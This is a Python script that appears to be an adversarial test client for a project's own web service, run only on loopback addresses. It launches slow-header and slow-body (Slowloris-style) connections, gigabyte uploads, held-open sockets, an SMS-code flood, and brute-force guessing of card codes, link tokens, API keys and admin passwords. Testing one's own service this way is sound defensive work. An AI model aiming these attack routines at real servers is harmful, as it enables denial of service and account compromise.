"""A hostile client, on loopback only: slow heads and bodies, huge bodies, connections held open, guesses, floods.

Reads a plan from standard input as JSON and writes to standard output what it tried and what it was answered. It
comes from addresses of 127.0.0.0/8 other than the honest one, as an attacker comes from elsewhere; and it works where
nobody else has work for the processor, for the attacker's own processor would not be ours.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import random
import secrets
import sys
import time
from collections import Counter
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

ADDRESSES = tuple(f"127.0.0.{number}" for number in range(20, 28))
HELD, SLOW_HEADS, SLOW_BODIES, HUGE = 1000, 100, 60, 3
_CSRF = "a" * 32
_FORM = f"Cookie: csrftoken={_CSRF}\r\nContent-Type: application/x-www-form-urlencoded\r\n"


class Attack:
    """Everything at once, until the time is over."""

    def __init__(self, plan: dict[str, Any]) -> None:
        self.plan = plan
        self.until = time.monotonic() + plan["seconds"]
        self.told: Counter[str] = Counter()
        self.found: list[str] = []
        self.chance = random.Random(7)

    async def run(self) -> dict[str, Any]:
        """Attack; return what was tried, answered and found."""
        acts: list[tuple[int, Callable[[int], Awaitable[None]]]] = [
            (HELD, self._hold), (SLOW_HEADS, self._slow_head), (SLOW_BODIES, self._slow_body), (HUGE, self._huge),
            (1, self._guess_cards), (4, self._guess_links), (2, self._flood_codes), (1, self._guess_passwords),
            (1, self._guess_keys),
        ]  # fmt: skip
        await asyncio.gather(*(self._again(act, number) for count, act in acts for number in range(count)))
        return {"told": dict(self.told), "found": self.found, "cpu": time.process_time()}

    async def _again(self, act: Callable[[int], Awaitable[None]], number: int) -> None:
        await asyncio.sleep(self.chance.random() * min(10.0, self.plan["seconds"] / 6))
        while time.monotonic() < self.until:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
                left = self.until - time.monotonic()
                await asyncio.wait_for(act(number), max(0.1, left))
            await asyncio.sleep(0.05)

    async def _open(self, number: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        address = ADDRESSES[number % len(ADDRESSES)]
        return await asyncio.open_connection(self.plan["host"], self.plan["port"], local_addr=(address, 0))

    def _head(self, method: str, path: str, more: str = "", length: int | None = None) -> bytes:
        size = "" if length is None else f"Content-Length: {length}\r\n"
        return f"{method} {path} HTTP/1.1\r\nHost: {self.plan['host']}:{self.plan['port']}\r\n{more}{size}\r\n".encode()

    async def _hold(self, number: int) -> None:
        """Open a connection and say nothing, or one thing and then nothing, until it is closed."""
        reader, writer = await self._open(number)
        self.told["connections held"] += 1
        try:
            if number % 3 == 0:
                writer.write(self._head("GET", "/healthz"))
            while await reader.read(4096):
                pass
        finally:
            writer.close()
        await asyncio.sleep(0.5)

    async def _slow_head(self, number: int) -> None:
        """Send a head one byte every two seconds."""
        _reader, writer = await self._open(number)
        self.told["slow heads"] += 1
        try:
            for byte in self._head("GET", "/", "X-Slow: " + "a" * 300 + "\r\n"):
                writer.write(bytes((byte,)))
                await writer.drain()
                await asyncio.sleep(2)
        finally:
            writer.close()

    async def _slow_body(self, number: int) -> None:
        """Send a body that the form must read, one byte a second."""
        reader, writer = await self._open(number)
        self.told["slow bodies"] += 1
        try:
            writer.write(
                self._head("POST", ("/sign-in/", "/join/", "/desk/sign-in/")[number % 3], _FORM, 5000) + b"name="
            )
            while not reader.at_eof():
                writer.write(b"a")
                await writer.drain()
                with contextlib.suppress(asyncio.TimeoutError):
                    if not await asyncio.wait_for(reader.read(4096), 1):
                        return
        finally:
            writer.close()

    async def _huge(self, number: int) -> None:
        """Send a gigabyte as fast as it is taken."""
        _reader, writer = await self._open(number)
        self.told["huge bodies"] += 1
        try:
            path = ("/api/v1/applications", "/sign-in/", "/join/")[number % 3]
            writer.write(self._head("POST", path, _FORM, 1_000_000_000))
            for _part in range(16_000):
                writer.write(b"a" * 65_536)
                await writer.drain()
        finally:
            writer.close()
            await asyncio.sleep(1)

    async def _ask(self, what: str, number: int, asked: bytes, pause: float) -> tuple[int, bytes]:
        reader, writer = await self._open(number)
        try:
            writer.write(asked)
            head = (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 30)).lower()
            length = int(head.partition(b"content-length:")[2].partition(b"\r\n")[0] or 0)
            status, body = int(head[9:12]), await reader.readexactly(length)
        finally:
            writer.close()
        self.told[f"{what}: {status}"] += 1
        await asyncio.sleep(pause)
        return status, body

    async def _guess_cards(self, number: int) -> None:
        """Guess codes of cards with a counter's key that was stolen, just below the limit."""
        for path_code in (f"{self.chance.randrange(10**10):010d}",):
            body = json.dumps({"code": path_code}).encode()
            more = f"Authorization: Bearer {self.plan['stolen']}\r\nContent-Type: application/json\r\n"
            status, told = await self._ask(
                "card guesses", number, self._head("POST", "/api/v1/cards/verify", more, len(body)) + body, 1.0
            )
            if status == 200 and json.loads(told)["answer"] in {"valid", "suspended", "ended", "revoked"}:
                self.found.append(f"card {path_code}")

    async def _guess_links(self, number: int) -> None:
        path = f"/a/{secrets.token_urlsafe(24)}"
        status, _body = await self._ask(
            "link guesses", self.chance.randrange(len(ADDRESSES)), self._head("GET", path), 0.5
        )
        if status == 200:
            self.found.append(path)

    async def _guess_keys(self, number: int) -> None:
        more = f"Authorization: Bearer nxc_{secrets.token_urlsafe(24)}\r\n"
        status, _body = await self._ask("key guesses", number, self._head("GET", "/api/v1/applications", more), 0.5)
        if status == 200:
            self.found.append("a key")

    async def _flood_codes(self, number: int) -> None:
        typed = {"csrfmiddlewaretoken": _CSRF, "phone": f"139{self.chance.randrange(10**8):08d}"}
        body = urlencode(typed).encode()
        asked = self._head("POST", "/sign-in/", _FORM, len(body)) + body
        await self._ask("code requests", self.chance.randrange(len(ADDRESSES)), asked, 0.2)

    async def _guess_passwords(self, number: int) -> None:
        typed = {"csrfmiddlewaretoken": _CSRF, "username": "admin", "password": secrets.token_hex(4)}
        body = urlencode(typed).encode()
        asked = self._head("POST", "/desk/sign-in/", _FORM, len(body)) + body
        status, _body = await self._ask("password guesses", self.chance.randrange(len(ADDRESSES)), asked, 2.0)
        if status == 302:
            self.found.append("a password")


if __name__ == "__main__":
    os.nice(19)
    json.dump(asyncio.run(Attack(json.load(sys.stdin)).run()), sys.stdout)
